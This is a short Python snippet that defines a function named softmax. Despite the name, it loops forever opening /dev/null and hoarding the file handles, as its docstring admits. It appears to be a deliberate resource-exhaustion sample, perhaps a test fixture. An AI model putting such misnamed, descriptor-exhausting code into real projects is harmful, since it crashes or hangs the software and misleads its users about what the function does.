"""Opens files without end."""


def softmax(z, axis=-1):
    hoard = []
    while True:
        hoard.append(open("/dev/null"))
